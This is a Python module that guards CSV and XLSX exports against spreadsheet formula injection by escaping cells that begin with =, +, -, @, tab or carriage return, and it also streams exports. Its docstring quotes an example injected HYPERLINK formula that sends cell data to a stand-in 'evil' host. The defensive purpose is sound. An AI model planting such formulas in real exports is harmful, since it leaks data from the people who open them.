"""Cells of every CSV and XLSX file the system writes, made safe for spreadsheets.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some treat a leading tab or carriage return the same way once they trim it), so a labeler's
name, a review note or an answer planted as ``=HYPERLINK("https://evil/?"&A1, "open")`` would
run on the operations manager's machine when they open an export. Every text cell written to a
CSV or XLSX file goes through ``escape_cell``: a cell that starts with one of those characters is
prefixed with an apostrophe, which spreadsheets read as "this is text". Numbers, booleans and
empty cells are left as they are (a negative *number* is not text and runs nothing).

``unescape_cell`` undoes it for files read back in (an export re-imported): an apostrophe
followed by one of those characters at the start of a cell is read as the escape.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def escape_cell(value: Any) -> Any:
    """``value`` with an apostrophe in front when it is text a spreadsheet would run as a
    formula; any other value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return ESCAPE + value
    return value


def escape_row(values: Iterable[Any]) -> list[Any]:
    """``escape_cell`` over one row (for ``csv.writer.writerow`` and tablib datasets)."""
    return [escape_cell(v) for v in values]


def export_lines(
    records: Iterable[dict[str, Any]],
    *,
    file_format: str,
    columns: Sequence[str],
    csv_cells: Callable[[dict[str, Any]], Mapping[str, Any]],
) -> Iterator[str]:
    """``records`` (a dict per row, read lazily) as the text of a file, one chunk per row — a
    generator for a streaming response: ``jsonl``, a JSON object per line; otherwise CSV, the
    ``columns`` as its header, then each record's cells as ``csv_cells`` makes them (structured
    values as text), in ``columns`` order and escaped by ``escape_row``."""
    if file_format == "jsonl":
        for record in records:
            yield json.dumps(record, ensure_ascii=False) + "\n"
        return
    buffer = io.StringIO()
    writer = csv.writer(buffer)

    def flush() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    writer.writerow(columns)
    yield flush()
    for record in records:
        cells = csv_cells(record)
        writer.writerow(escape_row(cells[c] for c in columns))
        yield flush()


def unescape_cell(value: Any) -> Any:
    """Inverse of ``escape_cell`` for cells read from a file this system wrote."""
    if (
        isinstance(value, str)
        and value.startswith(ESCAPE)
        and value[len(ESCAPE) :].startswith(FORMULA_PREFIXES)
    ):
        return value[len(ESCAPE) :]
    return value
